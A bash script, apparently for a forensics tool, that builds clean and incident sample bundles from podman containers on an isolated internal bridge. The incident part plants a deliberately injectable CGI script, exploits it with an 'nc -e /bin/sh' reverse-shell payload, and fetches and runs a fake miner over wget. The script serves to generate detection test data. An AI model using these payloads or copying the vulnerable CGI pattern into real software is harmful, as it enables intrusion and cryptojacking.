#!/usr/bin/env bash
# make-samples.sh: build the two sample capture bundles of samples/ from real podman
# containers running on this machine (bundle contract: /work/shared/DESIGN.md, section 1;
# what podman needs here: /work/shared/CONTAINERS.md).
#
#   sudo samples/make-samples.sh            # writes samples/web-clean.tar.zst and
#                                           #        samples/web-incident.tar.zst
#
# web-clean     ~15 s: an httpd container and a client container fetching pages from it.
# web-incident  ~23 s: the same, plus a podman exec into the web container, a command
#               injection in a CGI script that opens a reverse shell to the host side,
#               a fetched fake miner burning CPU and speaking Stratum, and a container
#               killed by the memory cgroup OOM killer.
#
# Every address used is on the internal bridge 10.89.77.0/24 of this machine; every
# container, listener, capture and loop is bounded in time, and the EXIT trap removes
# everything the script started.
set -euo pipefail

# The bundles keep /proc/<pid>/environ of the processes this script starts: run with an
# empty environment so that nothing of the caller's environment ends up in them.
if [[ ${SALVAGE_SAMPLES_CLEAN_ENV:-} != 1 ]]; then
	exec env -i SALVAGE_SAMPLES_CLEAN_ENV=1 HOME=/root LC_ALL=C TERM=dumb \
		PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
		bash "$0" "$@"
fi

if [[ $EUID -ne 0 ]]; then
	echo "make-samples.sh: must run as root (sudo $0)" >&2
	exit 1
fi

HERE=$(cd "$(dirname "$0")" && pwd)
# shellcheck source-path=SCRIPTDIR source=lib-capture.sh
. "$HERE/lib-capture.sh"

NET=salvage-demo
SUBNET=10.89.77.0/24
HOSTADDR=10.89.77.1 # added by hand to the bridge: the "attacker" side listens here only
WEB_IP=10.89.77.10
CLIENT_IP=10.89.77.11
HOG_IP=10.89.77.12
IMAGE=localhost/salvage-demo:1
LABEL=salvage.samples=1
SNAP_INTERVAL_US=1000000 # one snapshot per second
PODMAN=(podman --runtime runc --cgroup-manager cgroupfs --events-backend file)
RUN_OPTS=(--label "$LABEL" --network "$NET" --ulimit nofile=1024:1024
	--ulimit nproc=4096:4096)
STATE=/run/salvage-samples # what a killed run left behind, for the next run to undo
MAIN_PID=$$
KEEP=0 # --keep: leave the work folder (staging trees, listener output) for a look
[[ ${1:-} == --keep ]] && KEEP=1
HELPERS=()
declare -A PIDS=() # helper name -> pid (= its process group)
declare -A IDS=()  # container name -> id, in the current scenario
SNAP_PID=
SNAP_PIDS=()
WORK=

log() { printf '[make-samples %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
die() {
	log "ERROR: $*"
	exit 1
}

# podman with the global flags; its stderr (CNI config warnings on this machine) goes to
# a log that is shown when a command fails.
pm() {
	local rc=0
	"${PODMAN[@]}" "$@" 2>>"${WORK:-/tmp}/podman.stderr" || rc=$?
	if ((rc)); then
		log "podman $* failed ($rc):"
		grep -v 'CNI config' "${WORK:-/tmp}/podman.stderr" | tail -n 5 >&2 || true
	fi
	return "$rc"
}

# ---------------------------------------------------------------- cleanup -----------

# proc_start PID: the process's start time (field 22 of /proc/PID/stat), to tell a pid
# from a later process that reuses it.
proc_start() {
	local line
	local -a fields
	{ read -r line <"/proc/$1/stat"; } 2>/dev/null || return 1
	read -ra fields <<<"${line##*) }"
	printf '%s\n' "${fields[19]}"
}

# spawn NAME CMD...: run CMD in the background in its own session (pid = pgid), with
# output in $WORK/NAME.{out,err}; remembered so that cleanup can end its group.
spawn() {
	local name=$1 pid
	shift
	setsid "$@" >"$WORK/$name.out" 2>"$WORK/$name.err" </dev/null &
	pid=$!
	PIDS[$name]=$pid
	HELPERS+=("$pid $(proc_start "$pid" || echo 0)")
	printf '%s\n' "${HELPERS[-1]}" >>"$STATE/pgids"
}

# kill_group PGID START [SIG]: signal a helper's process group if PGID is still the
# process this script started (same start time).
kill_group() {
	local pgid=$1 start=$2 sig=${3:-TERM}
	[[ $(proc_start "$pgid" 2>/dev/null) == "$start" ]] || return 0
	kill "-$sig" -- "-$pgid" 2>/dev/null || true
}

# helper NAME: the recorded "pid start" of helper NAME
helper() {
	local h
	for h in "${HELPERS[@]}"; do
		[[ ${h%% *} == "${PIDS[$1]}" ]] && printf '%s\n' "$h" && return 0
	done
	return 1
}

remove_our_containers() {
	local ids
	ids=$("${PODMAN[@]}" ps -aq --no-trunc --filter "label=$LABEL" 2>/dev/null || true)
	if [[ -n $ids ]]; then
		# shellcheck disable=SC2086
		"${PODMAN[@]}" rm -f -t 0 $ids >/dev/null 2>&1 || true
	fi
}

remove_our_network() {
	local labels
	labels=$("${PODMAN[@]}" network inspect -f '{{.Labels}}' "$NET" 2>/dev/null) || return 0
	if [[ $labels == *salvage.samples:1* ]]; then
		"${PODMAN[@]}" network rm "$NET" >/dev/null 2>&1 || true
	fi
}

restore_ip_forward() {
	if [[ -r $STATE/ip_forward ]]; then
		cat "$STATE/ip_forward" >/proc/sys/net/ipv4/ip_forward || true
	fi
}

# Undo what a previous, killed run left behind (refusing to touch what is not ours).
cleanup_leftovers() {
	local pgid pid start name label dir
	if [[ -d $STATE ]]; then
		if [[ -r $STATE/main ]]; then
			read -r pid start <"$STATE/main"
			[[ $(proc_start "$pid") != "$start" ]] ||
				die "another make-samples.sh is running (pid $pid)"
		fi
		log "cleaning up after a previous run"
		if [[ -r $STATE/pgids ]]; then
			while read -r pgid start; do
				[[ -n $pgid ]] && kill_group "$pgid" "$start" KILL
			done <"$STATE/pgids"
		fi
		if [[ -r $STATE/pids ]]; then
			while read -r pid start; do
				[[ -n $pid && $(proc_start "$pid") == "$start" ]] && kill -KILL "$pid" 2>/dev/null
			done <"$STATE/pids"
		fi
		if [[ -r $STATE/workdir ]]; then
			dir=$(cat "$STATE/workdir")
			[[ $dir == /tmp/salvage-samples.* ]] && rm -rf -- "$dir"
		fi
	fi
	for name in web client hog; do
		label=$("${PODMAN[@]}" container inspect -f '{{index .Config.Labels "salvage.samples"}}' \
			"$name" 2>/dev/null) || continue
		[[ $label == 1 ]] || die "a container named '$name' exists that this script did not create"
	done
	remove_our_containers
	if "${PODMAN[@]}" network exists "$NET" 2>/dev/null; then
		[[ $("${PODMAN[@]}" network inspect -f '{{.Labels}}' "$NET" 2>/dev/null) == *salvage.samples:1* ]] ||
			die "a network named '$NET' exists that this script did not create"
		remove_our_network
	fi
	restore_ip_forward
	rm -rf -- "$STATE"
}

cleanup() {
	local rc=$? h
	set +e
	trap - EXIT INT TERM
	exec 7>&-
	[[ -n $SNAP_PID ]] && kill "$SNAP_PID" 2>/dev/null
	for h in "${HELPERS[@]}"; do
		# shellcheck disable=SC2086 # "pid start"
		kill_group $h TERM
	done
	sleep 0.3
	for h in "${HELPERS[@]}"; do
		# shellcheck disable=SC2086
		kill_group $h KILL
	done
	wait 2>/dev/null
	remove_our_containers
	remove_our_network
	restore_ip_forward
	if ((KEEP)); then
		log "kept $WORK"
	elif [[ -n $WORK && $WORK == /tmp/salvage-samples.* ]]; then
		rm -rf -- "$WORK"
	fi
	rm -rf -- "$STATE"
	((rc == 0)) || log "failed (exit $rc); everything started was removed"
	exit "$rc"
}

# ---------------------------------------------------------------- image -------------

write_rootfs() {
	local r=$1 a
	mkdir -p "$r"/{bin,etc,www/cgi-bin,tmp,root,proc,sys,dev,run,var/log}
	chmod 1777 "$r/tmp"
	cp /bin/busybox "$r/bin/busybox"
	for a in $("$r/bin/busybox" --list); do
		[[ $a == busybox ]] || ln -sf busybox "$r/bin/$a"
	done
	cat >"$r/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/bin/false
www-data:x:33:33:www-data:/www:/bin/false
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
	cat >"$r/etc/group" <<'EOF'
root:x:0:
daemon:x:1:
www-data:x:33:
nogroup:x:65534:
EOF
	cat >"$r/www/index.html" <<'EOF'
<!doctype html>
<html><head><title>salvage demo shop</title></head>
<body><h1>salvage demo shop</h1><p>Nothing to see here: a static page served by busybox httpd.</p>
<p><a href="/about.html">about</a></p></body></html>
EOF
	cat >"$r/www/about.html" <<'EOF'
<!doctype html>
<html><head><title>about</title></head><body><p>A sample web server for salvage.</p></body></html>
EOF
	# An "is the backend up?" endpoint whose host parameter reaches a shell unquoted:
	# the command injection that the incident scenario exploits.
	cat >"$r/www/cgi-bin/check" <<'EOF'
#!/bin/sh
echo "Content-Type: text/plain"
echo ""
q=$(httpd -d "$QUERY_STRING")
host=${q#host=}
sh -c "timeout 2 wget -q --spider http://$host/ && echo up || echo down" 2>&1
EOF
	chmod 755 "$r/www/cgi-bin/check"
}

build_image() {
	local r=$WORK/rootfs sum have
	write_rootfs "$r"
	tar --sort=name --mtime=@0 --owner=0 --group=0 --numeric-owner -C "$r" -cf "$WORK/rootfs.tar" .
	sum=$(sha256sum "$WORK/rootfs.tar" | cut -c1-16)
	have=$("${PODMAN[@]}" image inspect -f '{{index .Labels "salvage.rootfs"}}' "$IMAGE" 2>/dev/null || true)
	if [[ $have == "$sum" ]]; then
		log "image $IMAGE is up to date ($sum)"
		return 0
	fi
	log "importing $IMAGE (busybox-static rootfs $sum)"
	pm import --change "LABEL=salvage.rootfs=$sum" --change "LABEL=$LABEL" \
		"$WORK/rootfs.tar" "$IMAGE" >/dev/null
}

# ---------------------------------------------------------------- snapshots ---------

# snap_pids SELF: set SNAP_PIDS to the pids to snapshot: every process this script
# started (podman clients, host-side listeners, tcpdump; not the snapshotter SELF), the
# processes in the cgroups of our containers, and the conmon of each of our containers
# and exec sessions. The machine's other processes (the session machinery) are left out.
snap_pids() {
	local self=$1 d p line rest comm pp i id
	local -A kids=() want=() ours=() isconmon=()
	local -a q=() procs=() args=()
	while read -r id; do [[ -n $id ]] && ours[$id]=1; done <"$IDFILE"
	for d in /proc/[0-9]*; do
		p=${d#/proc/}
		{ read -r line <"$d/stat"; } 2>/dev/null || continue
		comm=${line#*\(}
		comm=${comm%)*}
		rest=${line##*) }
		read -r _ pp _ <<<"$rest"
		kids[$pp]+=" $p"
		[[ $comm == conmon ]] && isconmon[$p]=1
	done
	q=("$MAIN_PID")
	while ((${#q[@]})); do
		p=${q[0]}
		q=("${q[@]:1}")
		[[ $p == "$self" ]] && continue
		want[$p]=1
		# shellcheck disable=SC2206 # a list of pids
		q+=(${kids[$p]:-})
	done
	for id in "${!ours[@]}"; do
		{ mapfile -t procs <"/sys/fs/cgroup/pids/libpod_parent/libpod-$id/cgroup.procs"; } 2>/dev/null ||
			procs=()
		for p in "${procs[@]}"; do want[$p]=1; done
	done
	for p in "${!isconmon[@]}"; do
		{ mapfile -d '' -t args <"/proc/$p/cmdline"; } 2>/dev/null || continue
		for ((i = 0; i + 1 < ${#args[@]}; i++)); do
			if [[ ${args[i]} == -c && -n ${ours[${args[i + 1]}]:-} ]]; then
				want[$p]=1
				break
			fi
		done
	done
	SNAP_PIDS=("${!want[@]}")
}

# snapshot ROOT SELF: one snapshot at the current wall-clock time.
snapshot() {
	local root=$1 self=$2 t T id
	local -a rels=()
	t=$EPOCHREALTIME
	T=${t%???}
	snap_pids "$self"
	cap_snapshot "$root" "$T" "${SNAP_PIDS[@]}"
	while read -r id; do
		[[ -n $id ]] && rels+=("libpod_parent/libpod-$id")
	done <"$IDFILE"
	cap_cgroups "$root" "$T" "${rels[@]}"
	t=$EPOCHREALTIME
	echo "$T $(((${t/./} - ${T/./}000) / 1000)) ms" >>"$WORK/snapshots"
}

# snap_loop ROOT MAX_SECONDS: a snapshot every SNAP_INTERVAL_US until $WORK/snap.stop.
snap_loop() {
	local root=$1 max=$2 self=$BASHPID now next end wait_us
	now=${EPOCHREALTIME/./}
	next=$now
	end=$((now + max * 1000000))
	while [[ ! -e $WORK/snap.stop ]] && ((now < end)); do
		snapshot "$root" "$self" || log "snapshot failed"
		next=$((next + SNAP_INTERVAL_US))
		now=${EPOCHREALTIME/./}
		wait_us=$((next - now))
		if ((wait_us > 0)); then
			sleep "$(printf '%d.%06d' $((wait_us / 1000000)) $((wait_us % 1000000)))"
		else
			next=$now
		fi
		now=${EPOCHREALTIME/./}
	done
}

# ---------------------------------------------------------------- capture -----------

# begin_capture NAME MAX_SECONDS: start tcpdump and the snapshot loop for bundle NAME.
begin_capture() {
	local i
	NAME=$1
	BUNDLE=$STAGE/$NAME
	IDFILE=$WORK/$NAME.ids
	rm -rf -- "$BUNDLE" "$WORK/snap.stop" "$WORK/snapshots"
	mkdir -p "$BUNDLE/pcap"
	: >"$IDFILE"
	log "[$NAME] capture starts"
	spawn "tcpdump-$NAME" timeout --foreground --signal INT "$(($2 + 30))" \
		tcpdump -i any -s 512 -U -Z root -c 20000 -w "$BUNDLE/pcap/$NAME.pcap" net "$SUBNET"
	for ((i = 0; i < 50; i++)); do
		grep -q 'listening on' "$WORK/tcpdump-$NAME.err" 2>/dev/null && break
		sleep 0.1
	done
	grep -q 'listening on' "$WORK/tcpdump-$NAME.err" || die "tcpdump did not start"
	STARTED=$(cap_now_rfc3339)
	UP0=$(cap_uptime)
	T0=${EPOCHREALTIME/./}
	snap_loop "$BUNDLE" "$2" &
	SNAP_PID=$!
	echo "$SNAP_PID $(proc_start "$SNAP_PID" || echo 0)" >>"$STATE/pids"
}

# at SECONDS: sleep until SECONDS after the capture started (fractions allowed).
at() {
	local target now us
	target=$(awk -v s="$1" 'BEGIN { printf "%d", s * 1000000 }')
	now=${EPOCHREALTIME/./}
	us=$((T0 + target - now))
	if ((us > 0)); then
		# in the background, so that a signal reaches the traps at once
		sleep "$(printf '%d.%06d' $((us / 1000000)) $((us % 1000000)))" &
		wait "$!"
	fi
	return 0
}

# run_container NAME ARGS...: podman run -d; records the id for snapshots and inspect.
run_container() {
	local name=$1 id
	shift
	id=$(pm run -d --name "$name" "${RUN_OPTS[@]}" "$@") || die "cannot start $name"
	echo "$id" >>"$IDFILE"
	IDS[$name]=$id
	log "[$NAME] started $name ${id:0:12}"
}

# host_address: give the bridge its first host address (netavark leaves an internal
# bridge without one), so that host-side listeners can bind to it alone.
host_address() {
	local br
	br=$(pm network inspect -f '{{.NetworkInterface}}' "$NET")
	ip link show dev "$br" >/dev/null 2>&1 || die "bridge $br missing"
	ip -4 addr show dev "$br" | grep -q "inet $HOSTADDR/" ||
		ip addr add "$HOSTADDR/24" dev "$br"
}

# stop_capture: stop the snapshots and tcpdump; ENDED is the end of the live capture.
stop_capture() {
	touch "$WORK/snap.stop"
	wait "$SNAP_PID" || true
	SNAP_PID=
	ENDED=$(cap_now_rfc3339)
	UP1=$(cap_uptime)
	# shellcheck disable=SC2046 # "pid start"
	kill_group $(helper "tcpdump-$NAME") INT
	wait "${PIDS[tcpdump-$NAME]}" 2>/dev/null || true
	log "[$NAME] capture ended; $(wc -l <"$WORK/snapshots") snapshots; $(tail -n 1 "$WORK/tcpdump-$NAME.err")"
}

# pack_capture NOTES: inspect, events, dmesg, manifest and sums; pack, verify, and only
# then remove the scenario's containers.
pack_capture() {
	local notes=$1 id out
	while read -r id; do
		cap_inspect "$BUNDLE" "$id"
	done <"$IDFILE"
	cap_podman_events "$BUNDLE" "$STARTED" "$ENDED" "$IDFILE"
	cap_dmesg "$BUNDLE" "$UP0" "$UP1"
	cap_manifest "$BUNDLE" "$STARTED" "$ENDED" "$notes"
	cap_tidy "$BUNDLE"
	cap_sums "$BUNDLE"
	out=$WORK/$NAME.tar.zst
	ZSTD_CLEVEL=19 tar --zstd --sort=name --owner=0 --group=0 --numeric-owner \
		-C "$STAGE" -cf "$out" "$NAME"
	verify_bundle "$out"
	mv -f -- "$out" "$HERE/$NAME.tar.zst"
	log "[$NAME] wrote samples/$NAME.tar.zst ($(stat -c %s "$HERE/$NAME.tar.zst") bytes)"
	remove_our_containers
}

# verify_bundle FILE: the checks every bundle must pass.
verify_bundle() {
	local f=$1 x=$WORK/verify size
	rm -rf -- "$x"
	mkdir -p "$x"
	tar --zstd -tf "$f" >"$x.list" || die "tar cannot list $f"
	grep -qx "$NAME/manifest.json" "$x.list" || die "no manifest in $f"
	tar --zstd -C "$x" -xf "$f"
	(cd "$x/$NAME" && sha256sum --quiet -c SHA256SUMS) || die "SHA256SUMS check failed"
	python3 -m json.tool "$x/$NAME/manifest.json" >/dev/null || die "manifest.json does not parse"
	size=$(stat -c %s "$f")
	((size < 2000000)) || die "$f is $size bytes (limit 2 MB)"
	tcpdump -r "$x/$NAME/pcap/$NAME.pcap" -c 1 >/dev/null 2>&1 || die "pcap does not open"
	[[ -s $x/$NAME/events/podman.jsonl ]] || die "no podman events"
	if [[ $NAME == web-incident ]]; then
		grep -q "oom_memcg=/libpod_parent/libpod-${IDS[hog]}" "$x/$NAME/events/dmesg.txt" ||
			die "the memcg OOM kill of hog is not in dmesg.txt"
		grep -q 'Memory cgroup out of memory: Killed process' "$x/$NAME/events/dmesg.txt" ||
			die "no 'Memory cgroup out of memory' line in dmesg.txt"
		grep "\"ID\":\"${IDS[hog]}\"" "$x/$NAME/events/podman.jsonl" | grep '"Status":"died"' |
			grep -q '"ContainerExitCode":137' || die "no died event with exit code 137 for hog"
	fi
	rm -rf -- "$x" "$x.list"
}

# ---------------------------------------------------------------- scenarios ---------

client_loop() { # $1 iterations, about 0.55 s each
	printf '%s' "i=0; while [ \$i -lt $1 ]; do timeout 3 wget -q -O - http://$WEB_IP/index.html >/dev/null; [ \$((i % 5)) -eq 4 ] && timeout 3 wget -q -O - http://$WEB_IP/about.html >/dev/null; i=\$((i + 1)); sleep 0.5; done"
}

scenario_clean() {
	begin_capture web-clean 25
	at 0.5
	run_container web --ip "$WEB_IP" --timeout 60 "$IMAGE" httpd -f -p 80 -h /www
	host_address
	at 1.5
	run_container client --ip "$CLIENT_IP" --timeout 40 "$IMAGE" sh -c "$(client_loop 22)"
	at 15
	stop_capture
	pack_capture "Baseline: busybox httpd container web serving static pages to container client, which fetches index.html every half second; nothing else happens."
}

urlencode() {
	local s=$1 out='' c i
	for ((i = 0; i < ${#s}; i++)); do
		c=${s:i:1}
		case $c in
		[a-zA-Z0-9./_~-]) out+=$c ;;
		*) printf -v c '%%%02X' "'$c" && out+=$c ;;
		esac
	done
	printf '%s\n' "$out"
}

# The attacker's side, on the host address of the bridge: a tool server, a "mining pool"
# and the reverse shell listener fed through a fifo (fd 7) by this script.
start_attacker() {
	local www=$WORK/attacker-www i
	mkdir -p "$www"
	cat >"$www/xmrig" <<EOF
#!/bin/sh
# stand-in for a coin miner: burns CPU for a few seconds and talks Stratum to its pool
burn() {
	end=\$((\$(date +%s) + 9))
	while [ "\$(date +%s)" -lt "\$end" ]; do
		i=0
		while [ "\$i" -lt 20000 ]; do i=\$((i + 1)); done
	done
}
burn &
{
	echo '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}'
	sleep 1
	echo '{"id":2,"method":"mining.authorize","params":["wallet.worker","x"]}'
	sleep 6
} | timeout 10 nc $HOSTADDR 3333
wait
EOF
	chmod 755 "$www/xmrig"
	cat >"$WORK/pool-replies" <<'EOF'
{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}
{"id":2,"result":true,"error":null}
EOF
	spawn toolsrv timeout --foreground 60 busybox httpd -f -p "$HOSTADDR:8000" -h "$www"
	# shellcheck disable=SC2016 # arguments of the inner bash
	spawn pool bash -c '{ cat "$1"; sleep 30; } | timeout --foreground 40 busybox nc -l -p 3333 "$2"' \
		salvage-pool "$WORK/pool-replies" "$HOSTADDR"
	mkfifo "$WORK/shell.fifo"
	exec 7<>"$WORK/shell.fifo"
	# shellcheck disable=SC2016 # arguments of the inner bash
	spawn shell bash -c 'exec timeout --foreground 40 busybox nc -l -p 4444 "$1" <"$2"' \
		salvage-shell "$HOSTADDR" "$WORK/shell.fifo"
	for ((i = 0; i < 50; i++)); do
		[[ $(ss -Hltn "( sport = :4444 or sport = :3333 or sport = :8000 )" | wc -l) -ge 3 ]] && return 0
		sleep 0.1
	done
	die "attacker listeners did not come up"
}

scenario_incident() {
	local payload i
	begin_capture web-incident 35
	at 0.3
	run_container web --ip "$WEB_IP" --timeout 60 "$IMAGE" httpd -f -p 80 -h /www
	host_address
	start_attacker
	at 1.0
	run_container client --ip "$CLIENT_IP" --timeout 40 "$IMAGE" sh -c "$(client_loop 44)"

	at 3.0
	log "[$NAME] podman exec into web"
	spawn exec "${PODMAN[@]}" exec web sh -c 'id; cat /etc/passwd; ls /; sleep 2'

	at 5.0
	log "[$NAME] command injection in /cgi-bin/check -> reverse shell to $HOSTADDR:4444"
	payload="$WEB_IP/; nc $HOSTADDR 4444 -e /bin/sh </dev/null >/dev/null 2>&1 & #"
	spawn exploit timeout 10 busybox wget -q -O - "http://$WEB_IP/cgi-bin/check?host=$(urlencode "$payload")"
	for ((i = 0; i < 50; i++)); do
		[[ -n $(ss -Htn state established "( sport = :4444 )") ]] && break
		sleep 0.1
	done
	[[ -n $(ss -Htn state established "( sport = :4444 )") ]] || die "no reverse shell"

	at 6.5
	echo 'id' >&7
	at 7.5
	log "[$NAME] reverse shell fetches and starts /tmp/xmrig"
	echo "wget -O /tmp/xmrig http://$HOSTADDR:8000/xmrig; chmod +x /tmp/xmrig; /tmp/xmrig &" >&7

	at 10.0
	log "[$NAME] container hog allocates past its 32 MB limit"
	# shellcheck disable=SC2016 # expanded by the container's shell
	run_container hog --ip "$HOG_IP" --timeout 40 --memory 32m --memory-swap 32m "$IMAGE" \
		sh -c 'b=$(head -c 1048576 /dev/zero | tr "\0" x); a=; i=0; while [ "$i" -lt 120 ]; do a="$a$b"; i=$((i + 1)); sleep 0.4; done'

	at 19.5
	echo 'exit' >&7
	exec 7>&-
	at 23
	stop_capture
	check_incident
	pack_capture "Incident: web and client as in web-clean, plus a podman exec into web, a command injection in /cgi-bin/check that opens a reverse shell to $HOSTADDR:4444, a fake miner /tmp/xmrig fetched from $HOSTADDR:8000 that burns CPU and speaks Stratum to $HOSTADDR:3333, and container hog killed by the memory cgroup OOM killer."
}

# check_incident: the attack happened as scripted, and the snapshots show it.
check_incident() {
	local code shells=0 miners=0 d
	code=$("${PODMAN[@]}" inspect -f '{{.State.Status}} {{.State.ExitCode}} OOMKilled={{.State.OOMKilled}}' hog 2>/dev/null || true)
	log "[$NAME] hog: $code"
	[[ $code == "exited 137 "* ]] || die "hog was not killed with 137 ($code)"
	grep -q 'uid=0(root)' "$WORK/shell.out" || die "reverse shell did not run id"
	grep -q 'mining.authorize' "$WORK/pool.out" || die "the miner did not reach the pool"
	# the snapshots must show the reverse shell and the running tool, more than once
	for d in "$BUNDLE"/proc/*/; do
		grep -qsxF xmrig "$d"*/comm /dev/null && miners=$((miners + 1))
		grep -lsF "libpod-${IDS[web]}" "$d"*/cgroup /dev/null | sed 's,/cgroup$,/cmdline,' |
			xargs -r grep -lsx -z -F /bin/sh | grep -q . && shells=$((shells + 1))
	done
	log "[$NAME] snapshots with the reverse shell: $shells, with xmrig running: $miners"
	((shells >= 3 && miners >= 3)) || die "too few snapshots caught the attack"
}

# ---------------------------------------------------------------- main --------------

command -v tcpdump >/dev/null || die "tcpdump is missing"
command -v busybox >/dev/null || die "busybox is missing"
command -v zstd >/dev/null || die "zstd is missing"
cleanup_leftovers
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
mkdir -p "$STATE"
echo "$MAIN_PID $(proc_start "$MAIN_PID")" >"$STATE/main"
cat /proc/sys/net/ipv4/ip_forward >"$STATE/ip_forward"
WORK=$(mktemp -d /tmp/salvage-samples.XXXXXX)
echo "$WORK" >"$STATE/workdir"
STAGE=$WORK/stage
mkdir -p "$STAGE"

build_image
pm network create --internal --disable-dns --subnet "$SUBNET" --label "$LABEL" "$NET" >/dev/null

scenario_clean
scenario_incident
log "done: $(cd "$HERE" && stat -c '%n %s bytes' web-clean.tar.zst web-incident.tar.zst | paste -sd ';')"
